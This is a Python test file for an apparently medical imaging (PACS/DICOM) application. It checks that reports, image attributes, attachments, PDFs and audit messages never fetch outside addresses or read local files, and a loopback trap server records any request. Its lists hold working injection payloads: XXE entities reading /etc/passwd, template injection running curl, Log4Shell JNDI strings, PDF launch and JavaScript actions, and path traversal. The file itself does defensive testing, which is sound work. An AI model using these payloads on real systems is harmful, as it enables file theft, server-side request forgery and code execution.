"""Whatever an upload, an attachment or a report names - an address, a file, a script - PACScribe asks for none of it."""

import io
import threading
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import numpy as np
import pypdf
import pytest
from lxml import etree
from pydicom import dcmread, dcmwrite
from pydicom.uid import UID

from backend.cli.import_files import import_paths
from backend.core.errors import Refusal
from backend.dicom.attachments import NotAttachable, attachment, document_place
from backend.dicom.model import ParsedInstance
from backend.dicom.parsing import parse_instance
from backend.dicom.tag_listing import list_tags
from backend.schemas.attaching import AttachmentAnswers, AttachmentOrigin, AttachmentRequest
from backend.schemas.reporting import ReportSections
from backend.services.audit_messages import dicom_message
from backend.services.proving import Proof
from backend.services.report_content import SECTION_NAMES
from tests.dicom.test_attachments import ORDER, pdf
from tests.services.test_audit_export import entry
from tests.services.test_media import MISSING, dicomdir
from tests.viewing_hospital import PASSWORD, STUDY, Hospital, ct_slice, dicom_file

FOREIGN = "root:x:0:0"  # how the file begins that every careless program gives away


@dataclass
class Trap:
    """A server on loopback that remembers who asked; and whoever trusts it is given something."""

    port: int
    asked: list[str] = field(default_factory=list)

    def bait(self, text: str) -> str:
        return text.replace("TRAP", f"127.0.0.1:{self.port}")


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            sprung.asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(FOREIGN.encode())

        do_POST = do_HEAD = do_PUT = do_OPTIONS = do_PROPFIND = do_GET  # noqa: N815 - as the library calls them

        def log_message(self, *words: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    sprung = Trap(server.server_port)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield sprung
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def hospital(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hospital]:
    made = Hospital(Path(tmp_path_factory.mktemp("hospital")))
    made.take_in(ct_slice(0, 1))
    yield made
    made.close()


IN_A_REPORT = [
    '#image("http://TRAP/1.png")',
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    '#import "@preview/nothing:0.1.0": *',
    '#json("http://TRAP/2.json")',
    '#link("http://TRAP/3")[here]',
    "#eval(\"read('/etc/passwd')\")",
    '#sys.inputs.at("data")',
    '$ #image("file:///etc/passwd") $',
    '```typ #read("/etc/passwd")```',
    "<img src=http://TRAP/4>",
    '<link rel="stylesheet" href="http://TRAP/5">',
    "<iframe src=file:///etc/passwd>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://TRAP/6"> %e;]>',
    "![x](http://TRAP/7)",
    "@import url(http://TRAP/8);",
    "url(file:///etc/passwd)",
    r"\input{/etc/passwd}",
    r"\immediate\write18{curl http://TRAP/9}",
    "${jndi:ldap://TRAP/10}",
    "{{ cycler.__init__.__globals__.os.popen('curl http://TRAP/11').read() }}",
    "<%= File.read('/etc/passwd') %>",
    "gopher://TRAP/12 dict://TRAP/13 ftp://TRAP/14 file://TRAP/15",
]


def test_a_report_is_printed_as_it_was_typed(hospital: Hospital, trap: Trap) -> None:
    lines = [trap.bait(text) for text in IN_A_REPORT]
    caller, services = hospital.sign_in().caller, hospital.services
    report = services.reporting.open_for_study(caller, STUDY)
    assert report is not None
    sections = {
        **dict.fromkeys(SECTION_NAMES, ""),
        "findings": "\n\n".join(lines),
        "impression": "-",
    }
    saved = services.reporting.save_draft(
        caller, report.report_id, report.draft_version, ReportSections(**sections)
    )
    services.reporting.sign(caller, report.report_id, saved.draft_version, Proof(password=PASSWORD))
    octets = services.documents.report_pdf(caller, report.report_id).octets
    reader = pypdf.PdfReader(io.BytesIO(octets))
    words = _packed("".join(page.extract_text() for page in reader.pages))
    assert [line for line in lines if _packed(line) not in words] == []
    assert FOREIGN not in words
    assert not any("/Annots" in page or "/AA" in page for page in reader.pages)
    assert trap.asked == []


def _packed(text: str) -> str:
    """Without what a line break adds or takes."""
    return "".join(character for character in text if character.isprintable() and character != " ").replace("\u00ad", "")  # fmt: skip


ATTRIBUTES = {
    "RetrieveURL": "http://TRAP/20",
    "RetrieveURI": "http://TRAP/21",
    "PixelDataProviderURL": "http://TRAP/22",
    "StorageURL": "http://TRAP/23",
    "ReferencedFileID": ["..", "..", "ETC", "PASSWD"],
    "FileSetDescriptorFileID": ["..", "PASSWD"],
    "InstitutionAddress": '<!DOCTYPE x SYSTEM "http://TRAP/24">',
    "ImageComments": "file:///etc/passwd http://TRAP/25",
    "StudyDescription": "//TRAP/26",
}


@pytest.mark.parametrize("keyword", ATTRIBUTES)
def test_an_address_in_an_image_stays_a_text(hospital: Hospital, trap: Trap, keyword: str) -> None:
    value = ATTRIBUTES[keyword]
    given = trap.bait(value) if isinstance(value, str) else value
    octets = dicom_file(np.zeros((8, 8), np.uint8), **{keyword: given})
    (outcome,) = hospital.take_in(octets)
    assert outcome.kind == "stored", outcome.reason
    told = " ".join(line.value for line in list_tags(io.BytesIO(octets)).lines)
    assert (given if isinstance(given, str) else given[-1]) in told
    assert trap.asked == []


def test_pixels_that_are_elsewhere_are_not_asked_for(hospital: Hospital, trap: Trap) -> None:
    file = dcmread(io.BytesIO(ct_slice(5, 5)))
    del file.PixelData
    file.PixelDataProviderURL = f"http://127.0.0.1:{trap.port}/27"
    file.file_meta.TransferSyntaxUID = UID("1.2.840.10008.1.2.4.94")  # JPIP Referenced
    buffer = io.BytesIO()
    dcmwrite(buffer, file, enforce_file_format=True)
    outcomes = hospital.take_in(buffer.getvalue())
    assert len(outcomes) == 1
    assert trap.asked == []


def test_a_document_inside_an_object_is_not_read(trap: Trap) -> None:
    cda = f'<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://127.0.0.1:{trap.port}/28"><c>&x;</c> '
    file = dcmread(io.BytesIO(ct_slice(6, 6)))
    for keyword in ("PixelData", "Rows", "Columns", "BitsAllocated", "BitsStored", "HighBit"):
        delattr(file, keyword)
    file.SOPClassUID = file.file_meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.104.2"
    file.EncapsulatedDocument = cda.encode() + b" " * (len(cda) % 2)
    file.MIMETypeOfEncapsulatedDocument = "text/XML"
    buffer = io.BytesIO()
    dcmwrite(buffer, file, enforce_file_format=True)
    buffer.seek(0)
    assert parse_instance(buffer) is not None
    assert trap.asked == []


ATTACHMENTS = {
    "a drawing": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://TRAP/30"/></svg>',
    "a drawing that reads files": '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
    "a page": "<html><img src=http://TRAP/31></html>",
    "a list of films": "#EXTM3U\n#EXTINF:1,\nhttp://TRAP/32.ts\n",
    "a film made of files": "ffconcat version 1.0\nfile 'http://TRAP/33.mp4'\n",
    "a way to an address": "[InternetShortcut]\nURL=http://TRAP/34\n",
    "a manifest": "<MPD><BaseURL>http://TRAP/35</BaseURL></MPD>",
    "PostScript": "%!PS\n(/etc/passwd) (r) file\n",
}


@pytest.mark.parametrize("kind", ATTACHMENTS)
def test_what_could_ask_for_something_is_not_attached(
    hospital: Hospital, trap: Trap, kind: str
) -> None:
    caller = hospital.sign_in("technologist@demo.example").caller
    attaching = hospital.services.attaching
    staged = hospital.services.studies.stage()
    staged.write(trap.bait(ATTACHMENTS[kind]).encode())
    confirmation = attaching.target(caller, STUDY).confirmation
    answers = AttachmentAnswers("Letter", AttachmentOrigin.SCAN)
    asked = AttachmentRequest(STUDY, confirmation, answers)
    staged.finish()
    with pytest.raises(Refusal), staged.open() as reader:
        attaching.attach(caller, asked, "letter", reader)
    staged.discard()
    assert trap.asked == []


DOCUMENTS = {
    "a link": "/A << /S /URI /URI (http://TRAP/40) >>",
    "another document": "/OpenAction << /S /GoToR /F << /FS /URL /F (http://TRAP/41) >> /D [0] >>",
    "a program": "/OpenAction << /S /Launch /F (file:///etc/passwd) >>",
    "a form that sends": "/AA << /O << /S /SubmitForm /F (http://TRAP/42) >> >>",
    "a form that reads": "/AA << /O << /S /ImportData /F (/etc/passwd) >> >>",
    "a picture from elsewhere": "<< /Subtype /Image /F (http://TRAP/43) /Length 0 >> stream\nendstream",
    "a form in XML": '/XFA <!DOCTYPE x SYSTEM "http://TRAP/44"><x>&e;</x>',
    "a script": "/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://TRAP/45'\\)) >>",
    "metadata": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
}


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_what_a_document_refers_to_is_neither_followed_nor_taken_in(trap: Trap, kind: str) -> None:
    octets = pdf(trap.bait(DOCUMENTS[kind]).encode())
    with suppress(NotAttachable):
        parts = attachment(io.BytesIO(octets), ORDER)
        whole = parts.before + octets + parts.behind
        place = document_place(io.BytesIO(whole))
        assert whole[place.offset :].startswith(octets)
        assert isinstance(parse_instance(io.BytesIO(whole)), ParsedInstance)
        assert FOREIGN.encode() not in whole
    assert trap.asked == []


def _box(kind: bytes, *inner: bytes) -> bytes:
    """A box of an MP4 file (ISO 14496-12 4.2)."""
    octets = b"".join(inner)
    return (len(octets) + 8).to_bytes(4, "big") + kind + octets


def test_a_film_whose_pictures_are_elsewhere_is_refused_unasked(trap: Trap) -> None:
    place = f"http://127.0.0.1:{trap.port}/50\0".encode()
    boxes = _box(b"dref", bytes(4), b"\0\0\0\1", _box(b"url ", bytes(4), place))
    for kind in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        boxes = _box(kind, boxes)
    with pytest.raises(NotAttachable):
        attachment(io.BytesIO(_box(b"ftyp", b"isom", bytes(4), b"isomavc1") + boxes), ORDER)
    assert trap.asked == []


def test_a_disc_leads_to_nothing_beyond_it(hospital: Hospital, trap: Trap, tmp_path: Path) -> None:
    named = ["../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://TRAP/51"]
    (tmp_path / "DICOMDIR").write_bytes(dicomdir(*(trap.bait(each) for each in named)))
    technologist = hospital.sign_in("technologist@demo.example").caller
    told = list(import_paths(hospital.importer, technologist, [tmp_path]))
    assert [outcome.reason for outcome in told if outcome.kind == "refused"] == [MISSING] * 4
    assert trap.asked == []


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        '<xi:include href="http://TRAP/52" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
        '<?xml-stylesheet href="http://TRAP/53"?>',
    ],
)
def test_a_message_of_the_audit_trail_holds_what_was_written_and_nothing_else(
    trap: Trap, text: str
) -> None:
    given = trap.bait(text)
    octets = dicom_message(entry(reason=given, actor_name=given))
    document = etree.fromstring(octets, etree.XMLParser(load_dtd=True, no_network=False))
    assert document.getroottree().docinfo.doctype == ""
    assert not document.xpath("//processing-instruction() | //*[local-name() = 'include']")
    assert given in " ".join(document.xpath("//@*"))
    assert trap.asked == []


def test_the_trap_would_notice(trap: Trap) -> None:
    with urlopen(f"http://127.0.0.1:{trap.port}/noticed") as answer:
        assert answer.read().decode() == FOREIGN
    assert trap.asked.pop() == "/noticed"
